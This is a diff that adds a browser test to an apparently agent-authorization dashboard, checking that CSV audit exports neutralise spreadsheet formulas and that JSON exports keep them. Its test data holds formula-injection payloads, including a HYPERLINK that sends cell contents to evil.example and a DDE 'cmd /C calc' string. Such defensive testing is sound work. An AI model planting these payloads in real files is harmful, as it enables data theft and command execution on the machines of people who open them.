@@ -207,6 +207,53 @@ for (const dialect of ["sdk", "adapter"]) {
     });
   });
 
+  describe(`exports of what an agent made up, ${dialect} dialect`, () => {
+    const world = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "20"] });
+    const calls = [
+      { action: '=HYPERLINK("http://evil.example/?"&A1,"Sign in")', resource: "mcp:github:repos" },
+      { action: "read", resource: "@SUM(1+1)*cmd|' /C calc'!A0" },
+      { action: "-2+3", resource: "\t=1+1", arguments: { text: "a;=1+1" } },
+    ];
+    before(async () => {
+      const [agent] = await world.kavach.agents.list({ status: "active" });
+      for (const call of calls) await world.kavach.authorize(agent.id, call);
+    });
+
+    it("hold no formula as CSV, and all of it as JSON", async () => {
+      const page = await world.open("/audit");
+      await choosing(page);
+      const { dialog, choose, start, says } = await opened(world, page);
+      const textOf = async (extension) => {
+        await page.waitForFunction(
+          (end) => document.querySelector("dialog strong")?.textContent.endsWith(end),
+          extension,
+        );
+        return Object.entries(await files(page)).find(([name]) => name.endsWith(`.${extension}`))[1];
+      };
+      for (const source of [SHOWN, SERVERS]) {
+        await choose(source);
+        await choose("CSV");
+        await says("Text that a spreadsheet would run as a formula begins with an apostrophe.");
+        await start();
+        await says(`${(await world.kavach.audit.query()).length} rows,`);
+        const text = await textOf("csv");
+        for (const cell of parseCsv(`${text.replaceAll("\r\n", "\n").trimEnd().replaceAll("\n", "\r\n")}\r\n`).flat())
+          assert.doesNotMatch(cell, /^["\s]*[=+\-@\t]/);
+        for (const beginning of ["'=HYPERLINK(", "'@SUM(", "'-2+3"]) assert.ok(text.includes(beginning), beginning);
+        await choose(source === SHOWN ? "JSON, one entry on each line" : "JSON");
+        assert.equal(await dialog.getByText("begins with an apostrophe").count(), 0);
+        await start();
+        const json = await textOf(source === SHOWN ? "jsonl" : "json");
+        for (const { action } of calls) assert.ok(json.includes(JSON.stringify(action)), action);
+        await page.evaluate(async () => {
+          const folder = await navigator.storage.getDirectory();
+          for await (const name of folder.keys()) await folder.removeEntry(name);
+        });
+      }
+      await world.close(page);
+    });
+  });
+
   describe(`exports of more than 10,000 rows, ${dialect} dialect`, () => {
     const world = dashboard({ dialect, server: ["--showcase", "--showcase-rows", "12000"] });
 
